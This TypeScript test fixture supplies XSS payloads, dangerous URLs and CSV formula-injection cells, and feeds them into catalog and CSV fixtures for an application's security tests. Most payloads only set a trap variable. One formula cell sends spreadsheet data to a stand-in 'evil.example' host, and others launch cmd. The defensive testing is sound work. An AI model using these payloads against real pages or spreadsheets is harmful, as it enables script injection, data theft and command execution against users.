/**
 * The script-injection corpus (docs/security.md, "Host pages"): strings that run script if any surface ever
 * treats data as markup, as a URL or as style. Every payload that runs reports itself through
 * `window.__xss = '<id>'` (or `parent.__xss`, or `alert`), so a trap set before any page script
 * catches it wherever it lands. Used by the unit tests (tests/security) and by the end-to-end
 * ones (tests/e2e/security-*.e2e.ts), which import it into every text and URL field of a catalog
 * and of a CSV file.
 */

/** Markup, script-ish text and bidirectional tricks for text fields. */
export const TEXT_PAYLOADS: readonly string[] = [
  `<script>window.__xss='script'</script>`,
  `<img src=x onerror="window.__xss='img-onerror'">`,
  `<svg onload="window.__xss='svg-onload'"></svg>`,
  `<svg><script>window.__xss='svg-script'</script></svg>`,
  `<svg><a xlink:href="javascript:window.__xss='svg-xlink'"><text y="9">x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__xss='mxss'">`,
  `<iframe src="javascript:window.__xss='iframe-js'"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss='srcdoc'</script>"></iframe>`,
  `<a href="javascript:window.__xss='a-js'">click</a>`,
  `<form action="javascript:window.__xss='form'"><button>go</button></form>`,
  `<object data="javascript:window.__xss='object'"></object>`,
  `<embed src="javascript:window.__xss='embed'">`,
  `<base href="javascript:window.__xss='base'//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:window.__xss='meta'">`,
  `<input autofocus onfocus="window.__xss='autofocus'">`,
  `<details open ontoggle="window.__xss='details'">x</details>`,
  `<div style="background:url(javascript:window.__xss='css-url')">css</div>`,
  `<div style="width:expression(window.__xss='css-expression')">css</div>`,
  `<style>*{background:url("javascript:window.__xss='style'")}</style>`,
  `"><img src=x onerror="window.__xss='attr-break'">`,
  `' onmouseover='window.__xss="attr-single"' x='`,
  `javascript:window.__xss='js-text'`,
  `data:text/html,<script>window.__xss='data-text'</script>`,
  `vbscript:window.__xss='vb-text'`,
  `{{constructor.constructor('window.__xss="template"')()}}`,
  `\u202Egnp.exe`,
  `admin\u202E\u2066 evil \u2069`,
];

/** A short label of each payload, for test names and error messages. */
export function payloadId(payload: string): string {
  return /__xss\s*=\s*["']([^"']+)/.exec(payload)?.[1] ?? (/[\u202e\u2066]/.test(payload) ? 'bidi' : payload);
}

/** URLs that must never become a link, whatever the field: each is refused where a URL is expected. */
export const DANGEROUS_URLS: readonly string[] = [
  `javascript:window.__xss='js-url'`,
  `JaVaScRiPt:window.__xss='js-url-case'`,
  ` javascript:window.__xss='js-url-space'`,
  `java\tscript:window.__xss='js-url-tab'`,
  `data:text/html,<script>window.__xss='data-url'</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9J2RhdGE2NCc8L3NjcmlwdD4=`,
  `vbscript:window.__xss='vb-url'`,
  `http://plain-http.example/catalog`,
  `//protocol-relative.example/x`,
  `mailto:someone@acme.example`,
  `file:///etc/passwd`,
];

/** https URLs carrying payloads: accepted (they are https), and must still render as inert links. */
export const HTTPS_URL_PAYLOADS: readonly string[] = [
  `https://wiki.acme.example/"><img src=x onerror="window.__xss='href-break'">`,
  `https://wiki.acme.example/?q=<script>window.__xss='href-query'</script>`,
  `https://wiki.acme.example/#javascript:window.__xss='href-hash'`,
  `https://wiki.acme.example/' onmouseover='window.__xss="href-single"`,
];

/** Runs in a page before any of its scripts: every way a payload reports itself is recorded. */
export const TRAP_SOURCE = `(() => {
  const hits = [];
  Object.defineProperty(window, '__xssHits', { value: hits, configurable: false });
  Object.defineProperty(window, '__xss', {
    configurable: false,
    get() { return undefined; },
    set(value) { hits.push(String(value)); },
  });
  for (const name of ['alert', 'confirm', 'prompt', 'print']) {
    window[name] = (...args) => { hits.push(name + ':' + args.join(' ')); return null; };
  }
})();`;

/**
 * Page-side scan of a root (a document or the panel's shadow root) for anything a payload could
 * have become: script-capable elements, event-handler attributes, URLs with another scheme than
 * the allowed ones, and style that loads or evaluates something. Kept as source text so it can be
 * evaluated in any page (see tests/e2e/harness/panel.ts on why no named inner functions).
 */
export const DANGER_SCAN_SOURCE = String.raw`((rootSelector, allowedHref) => {
  const roots = [];
  const collect = (node) => {
    roots.push(node);
    for (const element of node.querySelectorAll('*')) if (element.shadowRoot) collect(element.shadowRoot);
  };
  // The document's body, not its head: an extension page's head holds its own module preloads.
  const start = rootSelector ? document.querySelector(rootSelector) : document.body;
  if (!start) return { missing: true, findings: [], hrefs: [], text: '' };
  collect(rootSelector ? start.shadowRoot || start : start);
  const allowed = new RegExp(allowedHref);
  const findings = [];
  const hrefs = [];
  let text = '';
  const ownScript = (el) => el.localName === 'script' && (el.getAttribute('src') || '').length > 0 && !/^(https?:|data:|javascript:)/i.test(el.getAttribute('src'));
  for (const root of roots) {
    text += ' ' + (root.textContent || '');
    for (const el of root.querySelectorAll('*')) {
      const name = el.localName;
      if (['iframe', 'frame', 'object', 'embed', 'base', 'applet', 'portal'].includes(name)) findings.push('element ' + name);
      if (name === 'script' && !ownScript(el)) findings.push('inline or foreign script: ' + el.outerHTML.slice(0, 80));
      if (name === 'meta' && /refresh/i.test(el.getAttribute('http-equiv') || '')) findings.push('meta refresh');
      if (name === 'img' && /(^|\/)x$/.test(el.getAttribute('src') || '')) findings.push('payload img');
      for (const attribute of el.attributes) {
        const attr = attribute.name.toLowerCase();
        const value = attribute.value;
        if (attr.startsWith('on')) findings.push(name + '[' + attr + ']');
        if (['href', 'xlink:href', 'src', 'action', 'formaction', 'data', 'srcdoc', 'poster', 'background'].includes(attr)) {
          if (attr === 'srcdoc') findings.push(name + '[srcdoc]');
          else if (attr === 'href' || attr === 'xlink:href') {
            hrefs.push(value);
            if (!allowed.test(value)) findings.push(name + '[' + attr + '=' + value.slice(0, 60) + ']');
          } else if (/^\s*(javascript|data|vbscript):/i.test(value)) findings.push(name + '[' + attr + '=' + value.slice(0, 60) + ']');
        }
        if (attr === 'style' && /expression\(|javascript:|url\(/i.test(value)) findings.push(name + '[style=' + value.slice(0, 60) + ']');
      }
    }
  }
  return { missing: false, findings, hrefs, text: text.replace(/\s+/g, ' ') };
})`;

export interface DangerScan {
  missing: boolean;
  findings: string[];
  hrefs: string[];
  text: string;
}

/** Page-side: every text node holding a bidi override or isolate sits in an element that isolates it. */
export const BIDI_SCAN_SOURCE = String.raw`((rootSelector) => {
  const start = rootSelector ? document.querySelector(rootSelector) : document;
  if (!start) return [];
  const root = rootSelector ? start.shadowRoot || start : start.body;
  const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
  const leaks = [];
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (!/[\u202a-\u202e\u2066-\u2069]/.test(node.data)) continue;
    let el = node.parentElement;
    let isolated = false;
    while (el) {
      const style = getComputedStyle(el);
      if (/isolate|plaintext/.test(style.unicodeBidi) || ['INPUT', 'TEXTAREA', 'OPTION', 'TITLE'].includes(el.tagName)) {
        isolated = true;
        break;
      }
      el = el.parentElement;
    }
    if (!isolated) leaks.push(node.parentElement ? node.parentElement.outerHTML.slice(0, 120) : node.data);
  }
  return leaks;
})`;

// ------------------------------------------------------------------------------------------------
// A catalog with a payload in every text field and an https payload in every URL field.

const at = <T>(list: readonly T[], i: number): T => list[i % list.length] as T;

/** Records of the host fixtures the XSS needs are linked to (tests/fixtures/<host>/). */
export const XSS_RECORDS = {
  jira: 'SHOP-142',
  salesforce: { system: 'salesforce', object: 'Account', id: '001Dn00000AbCdEIAV' },
  hubspot: { system: 'hubspot', object: 'company', id: '18273645012' },
  dynamics: { system: 'dynamics', object: 'account', id: '6b2a3c4d-1e2f-4a5b-8c9d-0e1f2a3b4c5d' },
  zendesk: { system: 'zendesk', object: 'ticket', id: '35436' },
} as const;

/**
 * Every text field of every kind carries payloads (each payload in several fields), every URL
 * field an https URL with a payload in it, and unknown fields carry payloads too. Every need is
 * linked to the Jira fixture's SHOP-142 and to one record of each CRM fixture.
 */
export function xssCatalog(): Record<string, unknown> {
  const n = TEXT_PAYLOADS.length;
  const p = (i: number) => at(TEXT_PAYLOADS, i);
  const url = (i: number) => at(HTTPS_URL_PAYLOADS, i);
  const people = Array.from({ length: n }, (_, i) => ({
    id: `p-xss-${i}`,
    name: `P${i} ${p(i)}`,
    title: p(i + 1),
    side: i % 2 ? 'it' : 'business',
    email: `person.${i}@acme.example`,
    chat: url(i),
    'x-note': p(i + 2),
  }));
  const teams = Array.from({ length: 4 }, (_, i) => ({
    id: `t-xss-${i}`,
    name: `T${i} ${p(i + 3)}`,
    approach: at(['clean-slate', 'firewall', 'standard'], i),
    businessLead: `p-xss-${2 * i}`,
    itLead: `p-xss-${2 * i + 1}`,
    members: [`p-xss-${i + 8}`],
    charter: {
      url: url(i),
      mission: p(i + 4),
      businessGoal: p(i + 5),
      capability: p(i + 6),
      agreements: [p(i + 7), p(i + 8)],
    },
    channels: [{ label: p(i + 9), url: url(i + 1) }],
    'x-note': p(i + 10),
  }));
  const needs = Array.from({ length: n }, (_, i) => ({
    id: `n-xss-${i}`,
    title: `N${i} ${p(i)}`,
    statement: p(i + 1),
    status: at(['in-delivery', 'committed', 'discovery', 'released', 'adopted', 'parked'], i),
    team: `t-xss-${i % 4}`,
    businessOwner: `p-xss-${i}`,
    itOwner: `p-xss-${(i + 1) % n}`,
    customers: [
      { name: p(i + 2), importance: 'critical', revenueBand: p(i + 3) },
      { name: `C${i} ${p(i + 4)}`, importance: 'nice' },
    ],
    outcome: p(i + 5),
    adoption: { metric: p(i + 6), unit: p(i + 7), target: 10, current: 3, asOf: '2026-11-01' },
    evidence: [{ label: p(i + 8), url: url(i) }],
    'x-note': p(i + 9),
  }));
  const links: Record<string, unknown>[] = needs.flatMap((need, i) => [
    { id: `l-xss-jira-${i}`, need: need.id, jira: { issue: XSS_RECORDS.jira } },
    ...(['salesforce', 'hubspot', 'dynamics', 'zendesk'] as const).map((host) => ({
      id: `l-xss-${host}-${i}`,
      need: need.id,
      crm: XSS_RECORDS[host],
    })),
    // CRM links by customer name and Jira links by label and component carry payloads too.
    { id: `l-xss-name-${i}`, need: need.id, crm: { system: 'zendesk', name: p(i + 10) } },
  ]);
  links.push(
    ...teams.map((team, i) => ({
      id: `l-xss-team-${i}`,
      team: team.id,
      jira: i % 2 ? { project: 'OPS', component: p(i + 11) } : { project: 'OPS', label: p(i + 12) },
    })),
  );
  return {
    format: 'tandem.catalog',
    version: 1,
    name: p(0),
    'x-publisher': p(1),
    sites: { jira: ['https://acme.atlassian.net'] },
    people,
    teams,
    needs,
    links,
  };
}

/** Where each URL field sits in a catalog, for the refusal tests: path -> a catalog with that URL. */
export function catalogWithUrl(field: 'chat' | 'charter' | 'channel' | 'evidence' | 'site', value: string) {
  const catalog = {
    format: 'tandem.catalog',
    version: 1,
    people: [
      { id: 'p-a', name: 'A', ...(field === 'chat' ? { chat: value } : {}) },
      { id: 'p-b', name: 'B' },
    ],
    teams: [
      {
        id: 't-a',
        name: 'Team',
        businessLead: 'p-a',
        itLead: 'p-b',
        ...(field === 'charter' ? { charter: { url: value } } : {}),
        ...(field === 'channel' ? { channels: [{ label: 'chat', url: value }] } : {}),
      },
    ],
    needs: [
      {
        id: 'n-a',
        title: 'Need',
        ...(field === 'evidence' ? { evidence: [{ label: 'e', url: value }] } : {}),
      },
    ],
    links: [],
    ...(field === 'site' ? { sites: { jira: [value] } } : {}),
  };
  const path = {
    chat: 'people[0].chat',
    charter: 'teams[0].charter.url',
    channel: 'teams[0].channels[0].url',
    evidence: 'needs[0].evidence[0].url',
    site: 'sites.jira[0]',
  }[field];
  return { catalog, path };
}

// ------------------------------------------------------------------------------------------------
// CSV.

/** Cells a spreadsheet would run as a formula. */
export const FORMULA_CELLS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

function csvCell(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}

/** A people CSV: payloads in every column, including a header the mapping preview shows. */
export function xssPeopleCsv(): string {
  const rows = [
    ['id', 'name', 'title', 'email', 'chat', `<img src=x onerror="window.__xss='csv-header'">`],
    ...TEXT_PAYLOADS.map((payload, i) => [
      `p-csv-${i}`,
      `CSV${i} ${payload}`,
      at(FORMULA_CELLS, i),
      `csv.${i}@acme.example`,
      at(HTTPS_URL_PAYLOADS, i),
      payload,
    ]),
  ];
  return `${rows.map((row) => row.map(csvCell).join(',')).join('\r\n')}\r\n`;
}
